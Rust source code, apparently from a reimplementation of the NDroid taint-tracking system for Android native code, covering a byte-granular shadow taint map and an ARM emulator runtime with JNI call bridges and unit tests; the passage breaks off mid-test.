        assert!(s.regs.iter().all(|t| t.is_clear()));
        assert!(s.vfp.iter().all(|t| t.is_clear()));
    }
}
