//! NDroid's taint shadow state.
//!
//! "NDroid maintains shadow registers to store the related registers'
//! taints and a taint map to store the memories' taints. The taint
//! granularity of NDroid is byte. The general propagation logic behind
//! NDroid follows the 'or' operation." (§V-E)
//!
//! The shadow state also holds the *object taint map* keyed by indirect
//! reference — "the shadow memory uses the indirect reference as key to
//! locate the taint information" because direct pointers move under GC
//! (§V-B).

use ndroid_dvm::{IndirectRef, Taint};
use std::collections::HashMap;

/// Byte-granular shadow memory for taints.
///
/// Backed by a sparse hash map: only tainted bytes consume space, so a
/// mostly-clean guest costs almost nothing — one of the reasons NDroid
/// is cheaper than whole-system approaches.
#[derive(Debug, Default, Clone)]
pub struct TaintMap {
    bytes: HashMap<u32, Taint>,
}

impl TaintMap {
    /// An empty (all-clear) map.
    pub fn new() -> TaintMap {
        TaintMap::default()
    }

    /// The taint of one byte.
    #[inline]
    pub fn get(&self, addr: u32) -> Taint {
        self.bytes.get(&addr).copied().unwrap_or(Taint::CLEAR)
    }

    /// Overwrites one byte's taint (clearing removes the entry).
    #[inline]
    pub fn set(&mut self, addr: u32, taint: Taint) {
        if taint.is_clear() {
            self.bytes.remove(&addr);
        } else {
            self.bytes.insert(addr, taint);
        }
    }

    /// Unions `taint` into one byte.
    #[inline]
    pub fn add(&mut self, addr: u32, taint: Taint) {
        if taint.is_tainted() {
            *self.bytes.entry(addr).or_insert(Taint::CLEAR) |= taint;
        }
    }

    /// Overwrites a byte range with `taint`.
    pub fn set_range(&mut self, addr: u32, len: u32, taint: Taint) {
        for i in 0..len {
            self.set(addr.wrapping_add(i), taint);
        }
    }

    /// Unions `taint` over a byte range.
    pub fn add_range(&mut self, addr: u32, len: u32, taint: Taint) {
        for i in 0..len {
            self.add(addr.wrapping_add(i), taint);
        }
    }

    /// The union of taints over a byte range.
    pub fn range_taint(&self, addr: u32, len: u32) -> Taint {
        let mut t = Taint::CLEAR;
        for i in 0..len {
            t |= self.get(addr.wrapping_add(i));
        }
        t
    }

    /// Clears a byte range.
    pub fn clear_range(&mut self, addr: u32, len: u32) {
        for i in 0..len {
            self.bytes.remove(&addr.wrapping_add(i));
        }
    }

    /// Copies taints byte-by-byte from `src` to `dst` (the `memcpy`
    /// model of the paper's Listing 3).
    pub fn copy_range(&mut self, dst: u32, src: u32, len: u32) {
        // Collect first in case ranges overlap.
        let taints: Vec<Taint> = (0..len).map(|i| self.get(src.wrapping_add(i))).collect();
        for (i, t) in taints.into_iter().enumerate() {
            self.set(dst.wrapping_add(i as u32), t);
        }
    }

    /// Number of tainted bytes.
    pub fn tainted_bytes(&self) -> usize {
        self.bytes.len()
    }
}

/// The complete native-context taint state.
#[derive(Debug, Default, Clone)]
pub struct ShadowState {
    /// Shadow core registers (`tR0`…`tR15`).
    pub regs: [Taint; 16],
    /// Shadow VFP registers (S0–S31).
    pub vfp: [Taint; 32],
    /// Byte-granular memory taint map.
    pub mem: TaintMap,
    /// Java-object taints visible from the native context, keyed by
    /// **indirect reference** so GC moves cannot stale them (§V-B).
    pub objects: HashMap<IndirectRef, Taint>,
    /// Count of taint-propagation operations performed (for overhead
    /// accounting in the benchmarks).
    pub ops: u64,
}

impl ShadowState {
    /// A fresh, all-clear shadow state.
    pub fn new() -> ShadowState {
        ShadowState::default()
    }

    /// Clears every shadow register (e.g. on a fresh native call).
    pub fn clear_regs(&mut self) {
        self.regs = [Taint::CLEAR; 16];
        self.vfp = [Taint::CLEAR; 32];
    }

    /// The taint recorded for a Java object reference.
    pub fn object_taint(&self, r: IndirectRef) -> Taint {
        self.objects.get(&r).copied().unwrap_or(Taint::CLEAR)
    }

    /// Unions taint onto a Java object reference.
    pub fn taint_object(&mut self, r: IndirectRef, taint: Taint) {
        if taint.is_tainted() {
            *self.objects.entry(r).or_insert(Taint::CLEAR) |= taint;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_dvm::IndirectRef;

    #[test]
    fn byte_granularity() {
        let mut m = TaintMap::new();
        m.set(0x1000, Taint::IMEI);
        assert_eq!(m.get(0x1000), Taint::IMEI);
        assert_eq!(m.get(0x1001), Taint::CLEAR);
        assert_eq!(m.tainted_bytes(), 1);
    }

    #[test]
    fn add_unions() {
        let mut m = TaintMap::new();
        m.add(5, Taint::SMS);
        m.add(5, Taint::CONTACTS);
        assert_eq!(m.get(5), Taint::SMS | Taint::CONTACTS);
        m.add(6, Taint::CLEAR);
        assert_eq!(m.tainted_bytes(), 1, "clear adds are free");
    }

    #[test]
    fn set_clear_removes_entry() {
        let mut m = TaintMap::new();
        m.set(7, Taint::IMEI);
        m.set(7, Taint::CLEAR);
        assert_eq!(m.tainted_bytes(), 0);
    }

    #[test]
    fn range_operations() {
        let mut m = TaintMap::new();
        m.set_range(0x100, 8, Taint::SMS);
        assert_eq!(m.range_taint(0x100, 8), Taint::SMS);
        assert_eq!(m.range_taint(0x108, 4), Taint::CLEAR);
        assert_eq!(m.range_taint(0x0FC, 8), Taint::SMS, "partial overlap unions");
        m.clear_range(0x100, 4);
        assert_eq!(m.range_taint(0x100, 4), Taint::CLEAR);
        assert_eq!(m.range_taint(0x104, 4), Taint::SMS);
    }

    #[test]
    fn copy_range_models_memcpy() {
        let mut m = TaintMap::new();
        m.set(0x200, Taint::IMEI);
        m.set(0x202, Taint::SMS);
        m.copy_range(0x300, 0x200, 4);
        assert_eq!(m.get(0x300), Taint::IMEI);
        assert_eq!(m.get(0x301), Taint::CLEAR);
        assert_eq!(m.get(0x302), Taint::SMS);
    }

    #[test]
    fn copy_range_handles_overlap() {
        let mut m = TaintMap::new();
        m.set(0x400, Taint::IMEI);
        m.copy_range(0x401, 0x400, 4); // overlapping forward copy
        assert_eq!(m.get(0x401), Taint::IMEI);
        assert_eq!(m.get(0x402), Taint::CLEAR);
    }

    #[test]
    fn object_taints_keyed_by_indirect_ref() {
        let mut s = ShadowState::new();
        let r = IndirectRef(0xa890_0025);
        assert_eq!(s.object_taint(r), Taint::CLEAR);
        s.taint_object(r, Taint::IMEI);
        s.taint_object(r, Taint::SMS);
        assert_eq!(s.object_taint(r), Taint::IMEI | Taint::SMS);
    }

    #[test]
    fn clear_regs_resets() {
        let mut s = ShadowState::new();
        s.regs[0] = Taint::IMEI;
        s.vfp[3] = Taint::SMS;
        s.clear_regs();
        assert!(s.regs.iter().all(|t| t.is_clear()));
        assert!(s.vfp.iter().all(|t| t.is_clear()));
    }
}
