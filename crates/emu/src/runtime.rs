//! The guest run loop, host-function dispatch, and the two call
//! bridges that cross the Java/native boundary.
//!
//! * [`call_guest`] — run ARM/Thumb code until it returns, firing
//!   [`Analysis`] callbacks per instruction and per branch (the role of
//!   NDroid's TCG-inserted analysis calls, §V-G).
//! * [`run_native_method`] — the `dvmCallJNIMethod` analog (JNI
//!   *entry*): marshals Dalvik arguments into ARM registers/stack per
//!   the AAPCS ("the first four parameters are passed in R0 to R3, and
//!   the remaining parameters are pushed onto stack, and the return
//!   value is put in R0", §V-B), converting object references to
//!   indirect references.
//! * [`call_java_method`] — the `dvmCallMethod*`/`dvmInterpret` analog
//!   (JNI *exit*): decodes indirect references back to objects and
//!   invokes the interpreter with per-argument taints supplied by the
//!   analysis.
//!
//! Host functions (JNI env functions, modeled libc) are registered at
//! guest trap addresses in a [`HostTable`]; branching to one dispatches
//! the Rust implementation and simulates the return.

use crate::error::EmuError;
use crate::kernel::Kernel;
use crate::layout::RETURN_SENTINEL;
use crate::shadow::ShadowState;
use crate::trace::TraceLog;
use ndroid_arm::block::{build_block, Block, BlockCache};
use ndroid_arm::exec::{step_cached, step_decoded, Effect};
use ndroid_arm::icache::DecodeCache;
use ndroid_arm::{Cpu, Memory};
use ndroid_dvm::{Dvm, DvmError, MethodId, MethodKind, NativeHandler, Taint};
use std::collections::HashMap;

/// Observation and taint-policy interface — the seam where NDroid's
/// analysis modules plug into the emulator. A vanilla run uses
/// [`VanillaAnalysis`] (all no-ops), which is how the CF-Bench
/// baseline measures uninstrumented speed.
pub trait Analysis {
    /// Whether native-context taint tracking is active. Modeled libc
    /// functions consult this before doing taint work, and sinks
    /// compute taint only when it returns `true`.
    fn tracks_native(&self) -> bool {
        false
    }

    /// Called after each guest instruction executes (the instruction
    /// tracer's entry point; Table V propagation lives here).
    fn on_insn(
        &mut self,
        _shadow: &mut ShadowState,
        _cpu: &Cpu,
        _mem: &Memory,
        _effect: &Effect,
    ) {
    }

    /// Called on every control transfer `(I_from, I_to)`, including
    /// virtual branches into/out of host functions — the event stream
    /// the multilevel-hooking FSM consumes.
    fn on_branch(&mut self, _shadow: &mut ShadowState, _from: u32, _to: u32) {}

    /// Executes one cached superblock: steps each pre-decoded
    /// instruction, charging the budget per *retired* instruction (so
    /// [`EmuError::Timeout`] fires at the identical instruction count
    /// as single-stepping) and firing
    /// [`Analysis::on_insn`]/[`Analysis::on_branch`] exactly as the
    /// stepper would. The block exits early after the first instruction
    /// whose runtime [`Effect::branch`] fires (a taken conditional
    /// branch mid-block, the block terminator, or any surprise PC
    /// write), and after any executed store that touches the block's
    /// own code page — the remaining pre-decoded steps can no longer be
    /// trusted, so control returns to the run loop, whose next cache
    /// lookup sees the bumped write generation and rebuilds from the
    /// fresh bytes.
    ///
    /// Implementations overriding this (the NDroid fused fast path)
    /// must preserve these exit rules and the budget contract bit for
    /// bit.
    ///
    /// # Errors
    ///
    /// Execution failures and [`EmuError::Timeout`] on budget
    /// exhaustion, exactly as the per-instruction stepper raises them.
    fn on_block(
        &mut self,
        shadow: &mut ShadowState,
        cpu: &mut Cpu,
        mem: &mut Memory,
        block: &Block,
        budget: &mut u64,
    ) -> Result<(), EmuError> {
        for step in block.steps() {
            if *budget == 0 {
                return Err(EmuError::Timeout { budget: 0 });
            }
            *budget -= 1;
            let effect = step_decoded(cpu, mem, step.instr, step.size)?;
            self.on_insn(shadow, cpu, mem, &effect);
            let own_page_store = step.store_bytes != 0
                && effect.executed
                && effect
                    .addr
                    .map_or(false, |a| block.store_hits_code(a, step.store_bytes));
            if let Some(b) = effect.branch {
                self.on_branch(shadow, b.from, b.to);
                return Ok(());
            }
            if own_page_store {
                return Ok(());
            }
        }
        Ok(())
    }

    /// JNI entry (the `SourcePolicy` handler): initialize native-side
    /// taints for a Java→native invocation. `args` are the marshalled
    /// register values (objects already converted to indirect refs);
    /// `stack_args_base` is the guest address of argument 5 onward.
    #[allow(clippy::too_many_arguments)]
    fn on_jni_entry(
        &mut self,
        _dvm: &mut Dvm,
        _shadow: &mut ShadowState,
        _trace: &mut TraceLog,
        _method: MethodId,
        _entry: u32,
        _args: &[u32],
        _taints: &[Taint],
        _stack_args_base: u32,
    ) {
    }

    /// JNI return: compute the native-tracked taint of the value the
    /// native method returned (shadow R0 for primitives, the object
    /// taint map for references).
    fn on_jni_return(
        &mut self,
        _dvm: &mut Dvm,
        _shadow: &ShadowState,
        _trace: &mut TraceLog,
        _method: MethodId,
        _ret: u32,
    ) -> Taint {
        Taint::CLEAR
    }
}

/// The no-op analysis: a vanilla emulator run.
#[derive(Debug, Default, Clone, Copy)]
pub struct VanillaAnalysis;

impl Analysis for VanillaAnalysis {}

/// Everything a host function can touch. Fields are disjoint mutable
/// borrows so host functions can use several at once.
pub struct NativeCtx<'a> {
    /// Guest CPU.
    pub cpu: &'a mut Cpu,
    /// Guest memory.
    pub mem: &'a mut Memory,
    /// The Dalvik VM (heap, indirect references, interpreter).
    pub dvm: &'a mut Dvm,
    /// NDroid's shadow taint state.
    pub shadow: &'a mut ShadowState,
    /// The simulated kernel.
    pub kernel: &'a mut Kernel,
    /// The analysis trace log.
    pub trace: &'a mut TraceLog,
    /// The plugged-in analysis (NDroid, a baseline, or vanilla).
    pub analysis: &'a mut dyn Analysis,
    /// Remaining guest-instruction budget.
    pub budget: &'a mut u64,
    /// Decoded-instruction cache shared by every guest run in this
    /// session (invalidated page-wise via memory write generations).
    pub icache: &'a mut DecodeCache,
    /// Compiled-superblock cache shared the same way (invalidated by
    /// the same page write generations as the icache).
    pub blocks: &'a mut BlockCache,
}

impl NativeCtx<'_> {
    /// Reborrows every field into a child context (for nested guest
    /// runs inside host functions).
    pub fn reborrow(&mut self) -> NativeCtx<'_> {
        NativeCtx {
            cpu: self.cpu,
            mem: self.mem,
            dvm: self.dvm,
            shadow: self.shadow,
            kernel: self.kernel,
            trace: self.trace,
            analysis: self.analysis,
            budget: self.budget,
            icache: self.icache,
            blocks: self.blocks,
        }
    }
}

/// A host function: receives the full context and the table (so it can
/// run nested guest code), returns the value to place in R0.
pub type HostFn = Box<dyn Fn(&mut NativeCtx<'_>, &HostTable) -> Result<u32, EmuError>>;

struct HostEntry {
    name: String,
    f: HostFn,
}

/// Host functions registered at guest trap addresses.
#[derive(Default)]
pub struct HostTable {
    fns: HashMap<u32, HostEntry>,
}

impl std::fmt::Debug for HostTable {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("HostTable").field("fns", &self.fns.len()).finish()
    }
}

impl HostTable {
    /// An empty table.
    pub fn new() -> HostTable {
        HostTable::default()
    }

    /// Registers `f` under `name` at guest address `addr`.
    ///
    /// # Panics
    ///
    /// Panics if `addr` is already taken (function layout bug).
    pub fn register(
        &mut self,
        addr: u32,
        name: impl Into<String>,
        f: impl Fn(&mut NativeCtx<'_>, &HostTable) -> Result<u32, EmuError> + 'static,
    ) {
        let name = name.into();
        let prev = self.fns.insert(
            addr,
            HostEntry {
                name,
                f: Box::new(f),
            },
        );
        assert!(prev.is_none(), "duplicate host fn at {addr:#x}");
    }

    /// The name registered at `addr`, if any.
    pub fn name_at(&self, addr: u32) -> Option<&str> {
        self.fns.get(&addr).map(|e| e.name.as_str())
    }

    /// The address registered under `name`, if any (linear scan; for
    /// tests and diagnostics).
    pub fn addr_of(&self, name: &str) -> Option<u32> {
        self.fns
            .iter()
            .find(|(_, e)| e.name == name)
            .map(|(a, _)| *a)
    }

    /// Whether a host function is registered at `addr`. Block discovery
    /// uses this as its stop predicate: a trap address must reach the
    /// run loop as a block *entry*, never hide inside a block.
    pub fn contains(&self, addr: u32) -> bool {
        self.fns.contains_key(&addr)
    }

    /// Number of registered functions.
    pub fn len(&self) -> usize {
        self.fns.len()
    }

    /// Whether the table is empty.
    pub fn is_empty(&self) -> bool {
        self.fns.is_empty()
    }
}

/// Calls guest code at `entry` with up to-AAPCS `args`, running until
/// it returns. Returns `(R0, taint of R0)`. Caller-visible register
/// state is saved and restored; memory side effects persist.
///
/// # Errors
///
/// Decode/execute failures, [`EmuError::Timeout`] when the instruction
/// budget runs out, and host-function failures.
pub fn call_guest(
    ctx: &mut NativeCtx<'_>,
    table: &HostTable,
    entry: u32,
    args: &[u32],
    pre: impl FnOnce(&mut NativeCtx<'_>, u32),
) -> Result<(u32, Taint), EmuError> {
    // Snapshot caller state.
    let saved_regs = ctx.cpu.regs;
    let saved_flags = (ctx.cpu.n, ctx.cpu.z, ctx.cpu.c, ctx.cpu.v);
    let saved_thumb = ctx.cpu.thumb;
    let saved_shadow = ctx.shadow.regs;

    // Marshal arguments per AAPCS.
    let nreg = args.len().min(4);
    ctx.cpu.regs[..nreg].copy_from_slice(&args[..nreg]);
    let mut sp = ctx.cpu.regs[13];
    let stack_args = args.len().saturating_sub(4);
    if stack_args > 0 {
        sp -= 4 * stack_args as u32;
        for (i, a) in args[4..].iter().enumerate() {
            ctx.mem.write_u32(sp + 4 * i as u32, *a);
        }
    }
    ctx.cpu.regs[13] = sp;
    ctx.cpu.regs[14] = RETURN_SENTINEL;
    ctx.cpu.set_pc(entry);
    if entry & 1 == 0 {
        ctx.cpu.thumb = false;
    }

    pre(ctx, sp);

    let result = run_loop(ctx, table);

    let r0 = ctx.cpu.regs[0];
    let r0_taint = ctx.shadow.regs[0];
    // Restore caller state.
    ctx.cpu.regs = saved_regs;
    (ctx.cpu.n, ctx.cpu.z, ctx.cpu.c, ctx.cpu.v) = saved_flags;
    ctx.cpu.thumb = saved_thumb;
    ctx.shadow.regs = saved_shadow;
    result?;
    Ok((r0, r0_taint))
}

fn run_loop(ctx: &mut NativeCtx<'_>, table: &HostTable) -> Result<(), EmuError> {
    loop {
        let pc = ctx.cpu.pc();
        if pc == RETURN_SENTINEL {
            return Ok(());
        }
        // Hot path: a cached superblock at this pc executes as a single
        // dispatch. Host trap addresses never have blocks (discovery
        // refuses them), so probing the block cache first is safe and
        // saves the table hash on every loop iteration.
        if ctx.blocks.enabled {
            if let Some(block) = ctx.blocks.lookup(ctx.mem, pc, ctx.cpu.thumb) {
                ctx.analysis
                    .on_block(ctx.shadow, ctx.cpu, ctx.mem, block, ctx.budget)?;
                continue;
            }
        }
        if let Some(entry) = table.fns.get(&pc) {
            let r0 = (entry.f)(&mut ctx.reborrow(), table).map_err(|e| match e {
                EmuError::Host { .. } => e,
                other => EmuError::Host {
                    name: entry.name.clone(),
                    message: other.to_string(),
                },
            })?;
            ctx.cpu.regs[0] = r0;
            // Simulate `bx lr`.
            let lr = ctx.cpu.regs[14];
            ctx.analysis.on_branch(ctx.shadow, pc, lr & !1);
            ctx.cpu.thumb = lr & 1 != 0;
            ctx.cpu.regs[15] = lr & !1;
            continue;
        }
        if ctx.blocks.enabled {
            if let Some(block) = build_block(ctx.mem, pc, ctx.cpu.thumb, |a| table.contains(a)) {
                let block = ctx.blocks.insert(ctx.mem, block);
                ctx.analysis
                    .on_block(ctx.shadow, ctx.cpu, ctx.mem, block, ctx.budget)?;
                continue;
            }
        }
        // Stepper fallback: blocks disabled, or nothing decodeable at
        // this pc (the step below re-raises the identical decode error).
        if *ctx.budget == 0 {
            return Err(EmuError::Timeout { budget: 0 });
        }
        *ctx.budget -= 1;
        let effect = step_cached(ctx.cpu, ctx.mem, ctx.icache)?;
        ctx.analysis.on_insn(ctx.shadow, ctx.cpu, ctx.mem, &effect);
        if let Some(b) = effect.branch {
            ctx.analysis.on_branch(ctx.shadow, b.from, b.to);
        }
    }
}

/// The `dvmCallJNIMethod` analog: runs the JNI native `method` with
/// Dalvik argument registers `args`/`taints`, marshalling object
/// references to indirect references on the way in and back on the way
/// out. Returns the Dalvik-visible `(value, native-tracked taint)`.
///
/// # Errors
///
/// Guest execution failures; [`EmuError::Dvm`] for marshalling errors.
pub fn run_native_method(
    ctx: &mut NativeCtx<'_>,
    table: &HostTable,
    method: MethodId,
    args: &[u32],
    taints: &[Taint],
) -> Result<(u32, Taint), EmuError> {
    let def = ctx.dvm.program.method(method);
    let (entry, shorty, name, class_name) = match def.kind {
        MethodKind::Native { entry } => (
            entry,
            def.shorty.clone(),
            def.name.clone(),
            ctx.dvm
                .program
                .class(ctx.dvm.program.method_class(method))
                .name
                .clone(),
        ),
        _ => {
            return Err(EmuError::Dvm(DvmError::NotInterpretable(format!(
                "{} is not native",
                def.name
            ))))
        }
    };

    // Marshal: convert object-reference arguments to indirect local
    // references (Android ≥ 4.0 semantics, §II-A). Parameter kinds come
    // from the shorty (skip the return-type character); non-static
    // methods receive `this` as an implicit leading reference.
    let mut native_args = Vec::with_capacity(args.len());
    let param_kinds = param_kinds_of(ctx.dvm, method, &shorty);
    for (i, value) in args.iter().enumerate() {
        let is_ref = param_kinds.get(i).copied() == Some('L');
        if is_ref && *value != 0 {
            let id = Dvm::expect_obj(*value).map_err(EmuError::Dvm)?;
            let r = ctx
                .dvm
                .refs
                .add(ndroid_dvm::IndirectRefKind::Local, id);
            native_args.push(r.0);
        } else {
            native_args.push(*value);
        }
    }

    ctx.trace.push(
        "jni-call",
        format!("dvmCallJNIMethod: {class_name}.{name} shorty={shorty} entry={entry:#x}"),
    );

    if ctx.shadow.prov.is_on() {
        let arg_taint = taints
            .iter()
            .fold(Taint::CLEAR, |acc, t| acc | *t);
        ctx.shadow.prov.emit(ndroid_provenance::ProvEvent::JniEntry {
            method: format!("{class_name}.{name}"),
            label: arg_taint.0,
        });
    }

    let taints_vec = taints.to_vec();
    let method_copy = method;
    let native_args_for_pre = native_args.clone();
    let (ret, ret_shadow_taint) = {
        let pre = |c: &mut NativeCtx<'_>, stack_base: u32| {
            c.analysis.on_jni_entry(
                c.dvm,
                c.shadow,
                c.trace,
                method_copy,
                entry,
                &native_args_for_pre,
                &taints_vec,
                stack_base,
            );
        };
        call_guest(ctx, table, entry, &native_args, pre)?
    };

    let extra = ctx
        .analysis
        .on_jni_return(ctx.dvm, ctx.shadow, ctx.trace, method, ret);
    let mut native_taint = ret_shadow_taint | extra;

    // Unmarshal an object return value: indirect ref → Dalvik register
    // reference. The object-map taint rides along.
    let returns_ref = shorty.starts_with('L');
    let dalvik_ret = if returns_ref && ret != 0 {
        let iref = ndroid_dvm::IndirectRef(ret);
        if ctx.analysis.tracks_native() {
            native_taint |= ctx.shadow.object_taint(iref);
        }
        let id = ctx.dvm.refs.decode(iref).map_err(EmuError::Dvm)?;
        Dvm::ref_value(id)
    } else {
        ret
    };

    if ctx.shadow.prov.is_on() {
        ctx.shadow.prov.emit(ndroid_provenance::ProvEvent::JniExit {
            method: format!("{class_name}.{name}"),
            label: native_taint.0,
        });
    }

    Ok((dalvik_ret, native_taint))
}

/// The `dvmCallMethod*` → `dvmInterpret` analog: invokes a Java method
/// from native code. `args` are native-side values with the taints the
/// analysis derived from shadow state; object parameters must be
/// indirect references, which this bridge decodes
/// (`dvmDecodeIndirectRef`) before pushing the frame. Returns the
/// native-visible `(value, taint)` — an object result is re-wrapped as
/// an indirect reference.
///
/// # Errors
///
/// Interpreter failures, including uncaught Java exceptions.
pub fn call_java_method(
    ctx: &mut NativeCtx<'_>,
    table: &HostTable,
    method: MethodId,
    args: &[(u32, Taint)],
) -> Result<(u32, Taint), EmuError> {
    let def = ctx.dvm.program.method(method);
    let shorty = def.shorty.clone();
    let returns_ref = shorty.starts_with('L');
    let param_kinds = param_kinds_of(ctx.dvm, method, &shorty);

    let mut dalvik_args = Vec::with_capacity(args.len());
    for (i, (value, taint)) in args.iter().enumerate() {
        let is_ref = param_kinds.get(i).copied() == Some('L');
        if is_ref && *value != 0 {
            let id = ctx
                .dvm
                .refs
                .decode(ndroid_dvm::IndirectRef(*value))
                .map_err(EmuError::Dvm)?;
            dalvik_args.push((Dvm::ref_value(id), *taint));
        } else {
            dalvik_args.push((*value, *taint));
        }
    }

    let (ret, ret_taint) = {
        let mut runner = GuestRunner {
            cpu: ctx.cpu,
            mem: ctx.mem,
            shadow: ctx.shadow,
            kernel: ctx.kernel,
            trace: ctx.trace,
            analysis: ctx.analysis,
            budget: ctx.budget,
            icache: ctx.icache,
            blocks: ctx.blocks,
            table,
        };
        let dvm: &mut Dvm = ctx.dvm;
        dvm.invoke_with(method, &dalvik_args, &mut runner)
            .map_err(EmuError::Dvm)?
    };

    // Wrap an object result back into an indirect reference for the
    // native caller, carrying its taint in the object map.
    if returns_ref && ret != 0 {
        let id = Dvm::expect_obj(ret).map_err(EmuError::Dvm)?;
        let iref = ctx.dvm.refs.add(ndroid_dvm::IndirectRefKind::Local, id);
        if ctx.analysis.tracks_native() {
            ctx.shadow.taint_object(iref, ret_taint);
        }
        Ok((iref.0, ret_taint))
    } else {
        Ok((ret, ret_taint))
    }
}

/// Parameter kind characters for `method`: the shorty's parameters,
/// with an implicit leading `L` (`this`) for non-static methods.
fn param_kinds_of(dvm: &Dvm, method: MethodId, shorty: &str) -> Vec<char> {
    let mut kinds = Vec::with_capacity(shorty.len());
    if !dvm.program.method(method).is_static {
        kinds.push('L');
    }
    kinds.extend(shorty.chars().skip(1));
    kinds
}

/// Reads AAPCS argument `i` of the current call: 0–3 from R0–R3, the
/// rest from the stack.
pub fn aapcs_arg(cpu: &Cpu, mem: &Memory, i: usize) -> u32 {
    if i < 4 {
        cpu.regs[i]
    } else {
        mem.read_u32(cpu.regs[13] + 4 * (i as u32 - 4))
    }
}

/// The shadow taint of AAPCS argument `i`.
pub fn aapcs_arg_taint(cpu: &Cpu, shadow: &ShadowState, i: usize) -> Taint {
    if i < 4 {
        shadow.regs[i]
    } else {
        shadow.mem.range_taint(cpu.regs[13] + 4 * (i as u32 - 4), 4)
    }
}

/// A [`NativeHandler`] that executes native methods on the emulator —
/// the glue that lets the interpreter and the ARM world re-enter each
/// other arbitrarily deep (Java → native → Java → native …).
pub struct GuestRunner<'a> {
    /// Guest CPU.
    pub cpu: &'a mut Cpu,
    /// Guest memory.
    pub mem: &'a mut Memory,
    /// Shadow taint state.
    pub shadow: &'a mut ShadowState,
    /// Simulated kernel.
    pub kernel: &'a mut Kernel,
    /// Analysis trace.
    pub trace: &'a mut TraceLog,
    /// Plugged-in analysis.
    pub analysis: &'a mut dyn Analysis,
    /// Remaining instruction budget.
    pub budget: &'a mut u64,
    /// Decoded-instruction cache.
    pub icache: &'a mut DecodeCache,
    /// Compiled-superblock cache.
    pub blocks: &'a mut BlockCache,
    /// Host-function table.
    pub table: &'a HostTable,
}

impl NativeHandler for GuestRunner<'_> {
    fn call_native(
        &mut self,
        dvm: &mut Dvm,
        method: MethodId,
        args: &[u32],
        taints: &[Taint],
    ) -> Result<(u32, Taint), DvmError> {
        let mut ctx = NativeCtx {
            cpu: self.cpu,
            mem: self.mem,
            dvm,
            shadow: self.shadow,
            kernel: self.kernel,
            trace: self.trace,
            analysis: self.analysis,
            budget: self.budget,
            icache: self.icache,
            blocks: self.blocks,
        };
        run_native_method(&mut ctx, self.table, method, args, taints).map_err(|e| match e {
            EmuError::Dvm(d) => d,
            other => DvmError::NativeFailure(other.to_string()),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::layout;
    use ndroid_arm::{Assembler, Reg};
    use ndroid_dvm::framework::install_framework;
    use ndroid_dvm::{ClassDef, MethodDef, Program};

    struct World {
        cpu: Cpu,
        mem: Memory,
        dvm: Dvm,
        shadow: ShadowState,
        kernel: Kernel,
        trace: TraceLog,
        budget: u64,
        icache: DecodeCache,
        blocks: BlockCache,
    }

    impl World {
        fn new(program: Program) -> World {
            let mut cpu = Cpu::new();
            cpu.regs[13] = layout::NATIVE_STACK_TOP;
            World {
                cpu,
                mem: Memory::new(),
                dvm: Dvm::new(program),
                shadow: ShadowState::new(),
                kernel: Kernel::new(),
                trace: TraceLog::new(),
                budget: 10_000_000,
                icache: DecodeCache::new(),
                blocks: BlockCache::new(),
            }
        }

        fn ctx<'a>(&'a mut self, analysis: &'a mut dyn Analysis) -> NativeCtx<'a> {
            NativeCtx {
                cpu: &mut self.cpu,
                mem: &mut self.mem,
                dvm: &mut self.dvm,
                shadow: &mut self.shadow,
                kernel: &mut self.kernel,
                trace: &mut self.trace,
                analysis,
                budget: &mut self.budget,
                icache: &mut self.icache,
                blocks: &mut self.blocks,
            }
        }
    }

    fn load(asm: Assembler, mem: &mut Memory) -> u32 {
        let base = asm.base();
        let code = asm.assemble().unwrap();
        mem.write_bytes(base, &code.bytes);
        base
    }

    #[test]
    fn call_guest_runs_plain_function() {
        let mut asm = Assembler::new(layout::NATIVE_CODE_BASE);
        asm.add(Reg::R0, Reg::R0, Reg::R1);
        asm.bx(Reg::LR);
        let mut w = World::new(Program::new());
        let entry = load(asm, &mut w.mem);
        let mut a = VanillaAnalysis;
        let table = HostTable::new();
        let mut ctx = w.ctx(&mut a);
        let (r, t) = call_guest(&mut ctx, &table, entry, &[40, 2], |_, _| {}).unwrap();
        assert_eq!(r, 42);
        assert!(t.is_clear());
    }

    #[test]
    fn caller_registers_restored() {
        let mut asm = Assembler::new(layout::NATIVE_CODE_BASE);
        asm.mov_imm(Reg::R4, 0xEE).unwrap(); // clobber a callee-saved reg (rude guest)
        asm.bx(Reg::LR);
        let mut w = World::new(Program::new());
        let entry = load(asm, &mut w.mem);
        w.cpu.regs[4] = 0x1234;
        let sp_before = w.cpu.regs[13];
        let mut a = VanillaAnalysis;
        let table = HostTable::new();
        let mut ctx = w.ctx(&mut a);
        call_guest(&mut ctx, &table, entry, &[], |_, _| {}).unwrap();
        assert_eq!(w.cpu.regs[4], 0x1234, "register file restored");
        assert_eq!(w.cpu.regs[13], sp_before);
    }

    #[test]
    fn stack_args_beyond_four() {
        // f(a,b,c,d,e,f) = a + e + f  (e, f come from the stack)
        let mut asm = Assembler::new(layout::NATIVE_CODE_BASE);
        asm.ldr(Reg::R1, Reg::SP, 0); // e
        asm.ldr(Reg::R2, Reg::SP, 4); // f
        asm.add(Reg::R0, Reg::R0, Reg::R1);
        asm.add(Reg::R0, Reg::R0, Reg::R2);
        asm.bx(Reg::LR);
        let mut w = World::new(Program::new());
        let entry = load(asm, &mut w.mem);
        let mut a = VanillaAnalysis;
        let table = HostTable::new();
        let mut ctx = w.ctx(&mut a);
        let (r, _) = call_guest(&mut ctx, &table, entry, &[1, 0, 0, 0, 10, 100], |_, base| {
            assert!(base > 0);
        })
        .unwrap();
        assert_eq!(r, 111);
    }

    #[test]
    fn host_function_dispatch() {
        // Guest calls a host function that doubles R0.
        const DOUBLER: u32 = layout::LIBC_BASE + 0x40;
        let mut asm = Assembler::new(layout::NATIVE_CODE_BASE);
        asm.push(ndroid_arm::reg::RegList::of(&[Reg::LR]));
        asm.mov_imm(Reg::R0, 21).unwrap();
        asm.call_abs(DOUBLER);
        asm.pop(ndroid_arm::reg::RegList::of(&[Reg::PC]));
        let mut table = HostTable::new();
        table.register(DOUBLER, "doubler", |ctx, _| Ok(ctx.cpu.regs[0] * 2));
        let mut w = World::new(Program::new());
        let entry = load(asm, &mut w.mem);
        let mut a = VanillaAnalysis;
        let mut ctx = w.ctx(&mut a);
        let (r, _) = call_guest(&mut ctx, &table, entry, &[], |_, _| {}).unwrap();
        assert_eq!(r, 42);
        assert_eq!(table.name_at(DOUBLER), Some("doubler"));
